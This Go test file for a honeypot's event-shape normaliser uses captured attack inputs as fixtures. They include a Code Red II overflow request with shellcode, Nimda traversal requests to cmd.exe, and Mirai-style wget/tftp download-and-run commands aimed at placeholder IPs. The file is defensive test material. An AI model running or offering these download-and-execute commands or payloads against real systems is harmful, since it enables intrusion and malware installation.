package novelty

import (
	"strings"
	"testing"

	"github.com/smallpot/smallpot/internal/event"
)

var shapeCases = []struct {
	name string
	d    event.Detail
	want string
}{
	{"codered ii", &event.Request{Method: "GET", URI: "/default.ida?" + strings.Repeat("X", 224) + idaShellcode, Version: "HTTP/1.0",
		Headers: []event.Header{{Name: "Content-type", Value: "text/xml"}, {Name: "Content-length", Value: "3379"}}},
		"request GET /default.ida?{s}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858% HTTP/1.0 [Content-type,Content-length]"},
	{"nimda double decode", &event.Request{Method: "GET", URI: "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", Version: "HTTP/1.1",
		Headers: []event.Header{{Name: "Host", Value: "www"}}},
		"request GET /scripts/..%255c../winnt/system{n}/cmd.exe?/c+dir HTTP/1.1 [Host]"},
	{"nimda overlong", &event.Request{Method: "GET", URI: "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", Version: "HTTP/1.1"},
		"request GET /scripts/..%c0%af../winnt/system{n}/cmd.exe?/c+dir HTTP/1.1 []"},
	{"ids and query keys", &event.Request{Method: "POST", URI: "/api/v2/users/12345/files/9f86d081884c7d65?token=abc&id=7&x", Version: "HTTP/1.1",
		Headers: []event.Header{{Name: "Host"}, {Name: "X-Session", Value: "q8Fk2LmQ91ZaXw"}}},
		"request POST /api/v{n}/users/{n}/files/{h}?token&id&x HTTP/1.1 [Host,X-Session]"},
	{"random names", &event.Request{Method: "GET", URI: "/a8Fk2LmQ91Za/" + strings.Repeat("z", 30) + ".php", Version: "HTTP/1.1"},
		"request GET /{s}/{s}.php HTTP/1.1 []"},
	{"malformed", &event.Request{Method: "\x16\x03\x01", Malformed: "bad request line"},
		"request malformed {b}{b}{b}   []"},
	{"mirai dropper", &event.Command{Shell: "busybox", Line: "cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh; /bin/busybox ECCHI"},
		"command busybox: cd {path} || cd {path} ; wget {url} ; chmod {n} {s} ; sh {s} ; {dir}/busybox {s}"},
	{"flags, quotes, redirects", &event.Command{Shell: "sh", Line: `echo -ne "\x7fELF" > /tmp/.x 2>/dev/null && tftp -g -r bot 198.51.100.2:69 --opt=1`},
		"command sh: echo -ne {path} > {path} 2> {path} && tftp -g -r {s} {ip} --opt={s}"},
	{"assignment", &event.Command{Shell: "sh", Line: "PATH=/tmp:$PATH ./run8x"},
		"command sh: {var}= {dir}/run{n}x"},
	{"ftp", &event.Command{Shell: "ftp", Line: "USER anonymous"}, "command ftp: USER {s}"},
	{"windows", &event.Command{Shell: "cmd", Line: "tftp -i 192.0.2.7 GET Admin.dll c:\\Admin.dll"},
		"command cmd: tftp -i {ip} {s} {s} {path}"},
	{"tls hello", &event.Payload{Len: 517, Data: []byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03abcd")},
		"payload 1603 xxxx0x0xxxxaaaa len<2^10"},
	{"text payload", &event.Payload{Len: 18, Data: []byte("GET / HTTP/1.0\r\n\r\n")},
		"payload GET aaa_/_aaaa/9.9nn len<2^5"},
	{"empty payload", &event.Payload{}, "payload   len<2^0"},
	{"rpc", &event.RPC{Program: 100000, Version: 2, Procedure: 3, Auth: "unix"}, "rpc 100000/2/3 auth=unix"},
	{"ssh", &event.SSH{ClientVersion: "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.1", HASSH: "ec7378c1a92f5a8dde7e8b7a1ddf33d1"},
		"ssh SSH-{n}.{n}-OpenSSH_{n}.{n}p{n}{b}Ubuntu-{n}ubuntu{n}.{n} hassh=ec7378c1a92f5a8dde7e8b7a1ddf33d1"},
	{"ssh without kex", &event.SSH{ClientVersion: "SSH-2.0-Go", HASSH: "not-a-hash"}, "ssh SSH-{n}.{n}-Go hassh=-"},
	{"login has no shape", &event.Login{User: "root", Password: "x"}, ""},
}

func TestShapes(t *testing.T) {
	for _, tc := range shapeCases {
		if got := shapeOf(envelope(tc.d)); got != tc.want {
			t.Errorf("%s:\ngot  %q\nwant %q", tc.name, got, tc.want)
		}
	}
}

// Shapes are bounded whatever arrives.
func TestShapeBounds(t *testing.T) {
	long := strings.Repeat("/a%20b?c=d&", 5000)
	var hs []event.Header
	for range 500 {
		hs = append(hs, event.Header{Name: strings.Repeat("N", 300)})
	}
	for _, d := range []event.Detail{
		&event.Request{Method: long, URI: long, Version: long, Headers: hs},
		&event.Command{Shell: long, Line: strings.Repeat("a -b 'c' ; ", 5000)},
		&event.SSH{ClientVersion: long},
	} {
		if s := shapeOf(envelope(d)); len(s) > maxShape || s == "" {
			t.Errorf("%T: shape of %d bytes; want 1 to %d", d, len(s), maxShape)
		}
	}
}
